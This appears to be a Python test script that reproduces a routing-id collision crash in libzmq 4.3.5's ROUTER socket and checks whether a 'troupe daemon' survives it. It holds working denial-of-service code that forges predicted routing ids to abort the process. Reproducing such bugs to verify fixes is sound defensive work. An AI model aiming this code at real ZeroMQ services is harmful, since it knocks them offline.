"""The routing-id collision attack on a ZeroMQ ROUTER (libzmq 4.3.5 aborts on it).

A ROUTER names a connection that brings no routing id of its own with a zero
byte and a counter that starts at the same value in every process
(0x6b8b4567, glibc's first ``rand()``). A peer that sets ``ZMQ_ROUTING_ID`` to
the next values of that counter makes the next connections without an id
collide with it, and libzmq asserts (``socket_base.cpp:2113``, SIGABRT).

Usage:

* ``python collide.py bare``: the attack on a plain ROUTER in this process;
  it aborts the process (the test checks that it does, so that the daemon's
  survival below shows a fix and not a changed libzmq).
* ``python collide.py ENDPOINT``: the attack on a troupe daemon's front
  socket: DEALERs with the ids the counter would give (starting where an
  unseeded libzmq starts, and where the ids of a first connection would have
  led), then plain DEALERs asking for ``health``. Prints one JSON line:
  how many of each were answered.
"""

from __future__ import annotations

import json
import struct
import sys
import tempfile

import msgpack
import zmq

FIRST = 0x6B8B4567
CHOSEN = 64
PLAIN = 8


def chosen_id(n: int) -> bytes:
    return b"\x00" + struct.pack(">I", n % 2**32)


def bare() -> None:
    endpoint = f"ipc://{tempfile.mkdtemp()}/collide.sock"
    ctx = zmq.Context()
    dispatcher = ctx.socket(zmq.ROUTER)
    dispatcher.bind(endpoint)
    first = ctx.socket(zmq.DEALER)
    first.connect(endpoint)
    first.send(b"hi")
    peer, _ = dispatcher.recv_multipart()
    counter = struct.unpack(">I", peer[1:])[0]
    holders = []  # kept open: a closed peer frees its id
    for k in range(1, 4):
        dealer = ctx.socket(zmq.DEALER)
        dealer.setsockopt(zmq.ROUTING_ID, chosen_id(counter + k))
        dealer.connect(endpoint)
        dealer.send(b"x")
        dispatcher.recv_multipart()
        holders.append(dealer)
    victim = ctx.socket(zmq.DEALER)
    victim.connect(endpoint)
    victim.send(b"y")
    dispatcher.recv_multipart()  # not reached: libzmq aborts the process when it names `victim`
    print("survived")


def ask(sock: zmq.Socket[bytes], ref: int) -> None:
    sock.send(msgpack.packb({"v": 1, "t": "ctl", "op": "health", "ref": ref}))


def answered(socks: list[zmq.Socket[bytes]], timeout_ms: int = 10_000) -> int:
    count = 0
    for sock in socks:
        if sock.poll(timeout_ms):
            frame = msgpack.unpackb(sock.recv())
            count += frame.get("t") == "ctl" and frame.get("ok") is True
    return count


def attack(endpoint: str) -> dict[str, int]:
    ctx = zmq.Context()
    first = ctx.socket(zmq.DEALER)
    first.connect(endpoint)
    ask(first, 0)
    firsts = answered([first])
    chosen = []
    for k in range(CHOSEN):
        dealer = ctx.socket(zmq.DEALER)
        dealer.setsockopt(zmq.ROUTING_ID, chosen_id(FIRST + k))
        dealer.connect(endpoint)
        ask(dealer, k)
        chosen.append(dealer)
    chosen_answered = answered(chosen)
    plain = []
    for k in range(PLAIN):
        dealer = ctx.socket(zmq.DEALER)
        dealer.connect(endpoint)
        ask(dealer, 1000 + k)
        plain.append(dealer)
    result = {"first": firsts, "chosen": chosen_answered, "plain": answered(plain)}
    ctx.destroy(linger=0)
    return result


if __name__ == "__main__":
    if sys.argv[1] == "bare":
        bare()
    else:
        print(json.dumps(attack(sys.argv[1])))
